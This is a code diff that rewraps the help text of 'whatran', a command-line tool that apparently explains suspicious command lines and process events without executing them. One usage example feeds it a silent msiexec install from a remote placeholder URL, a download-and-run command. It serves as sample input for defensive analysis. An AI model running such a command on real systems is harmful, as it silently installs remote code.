@@ -20,8 +20,9 @@ Examples:
   whatran explain --format json 'msiexec /q /i http://example.net/p.msi' | jq .verdict
   jq -c '{commandLine: .CommandLine, image: .Image}' events.json | whatran explain --stdin
 
-A line of --stdin is a command line, or an object with commandLine or args[] and, if known, image, originalFileName,
-platform, env, cwd, parent and as. Every line has one answer, in order. Nothing is ever executed.`;
+A line of --stdin is a command line, or an object with commandLine or args[] and, if known, image,
+originalFileName, platform, env, cwd, parent and as. Every line has one answer, in order. Nothing is
+ever executed.`;
 
 interface Flags extends Record<string, unknown> {
   readonly stdin?: boolean;
